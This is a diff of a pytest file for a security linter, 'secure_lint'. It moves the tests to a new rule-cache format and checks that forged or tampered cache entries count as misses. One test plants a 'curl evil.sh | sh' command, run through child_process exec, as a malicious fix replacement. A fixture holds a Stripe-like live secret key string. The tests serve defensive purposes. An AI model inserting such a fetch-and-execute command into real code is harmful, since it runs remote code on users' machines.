@@ -9,7 +9,8 @@ from pathlib import Path
 import pytest
 
 from secure_lint import validated_cache
-from secure_lint.rules import cache_entry, load_rules
+from secure_lint.rule_cache import cache_entry
+from secure_lint.rules import load_rules
 
 RULE_FILE = """\
 rules:
@@ -112,11 +113,12 @@ def test_an_empty_rule_list_in_the_cache_is_a_miss_not_a_clean_scan(
     root = tree({"src/pay.ts": "export const key = 'sk_live_51HqLyjWDarjtT1zdp7dcXz0aQ7f9sTnWm2vYbKcRxQe4J8hLu';\n"})
     assert run_cli("scan", cwd=root).exit_code == 1
     (entry,) = cache_home.glob("rules-*.json")
-    _forge(entry, b"[]", with_header)
-    result = run_cli("scan", "--format", "json", cwd=root)
-    assert result.exit_code == 1
-    assert [f["rule_id"] for f in json.loads(result.stdout)["findings"]] == ["secrets.stripe-secret-key"]
-    assert validated_cache.read(entry) != b"[]"  # rebuilt
+    for empty in (b"[]", b'{"format": 2, "narratives": [], "rules": []}'):
+        _forge(entry, empty, with_header)
+        result = run_cli("scan", "--format", "json", cwd=root)
+        assert result.exit_code == 1
+        assert [f["rule_id"] for f in json.loads(result.stdout)["findings"]] == ["secrets.stripe-secret-key"]
+        assert validated_cache.read(entry) != empty  # rebuilt
 
 
 @pytest.mark.parametrize("with_header", [False, True])
@@ -129,10 +131,10 @@ def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
     entry = cache_entry([path])
     assert entry is not None
     cached = json.loads(validated_cache.read(entry) or b"")
-    cached[0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
+    cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
     _forge(entry, json.dumps(cached).encode(), with_header)
     assert load_rules([path], bundled=False) == expected
-    cached[0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
+    cached["rules"][0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
     _forge(entry, json.dumps(cached).encode(), with_header)
     assert load_rules([path], bundled=False) == expected
 
@@ -160,3 +162,12 @@ def test_a_config_entry_of_the_wrong_shape_is_a_miss(cache_home: Path, tmp_path:
     wrong = {**json.loads(validated_cache.read(entry) or b""), "exclude": "legacy/**", "fail_on": "never"}
     _forge(entry, json.dumps(wrong).encode(), with_header=True)
     assert load_config(tmp_path).fail_on == "high"
+
+
+def test_rules_sharing_a_knowledge_item_store_its_narrative_once(cache_home: Path) -> None:
+    rules = load_rules()
+    (entry,) = cache_home.glob("rules-*.json")
+    payload = json.loads(validated_cache.read(entry) or b"")
+    assert len(payload["rules"]) == len(rules)
+    assert len(payload["narratives"]) == len({(r.description, r.impact, r.remediation) for r in rules})
+    assert load_rules() == load_rules(use_cache=False)
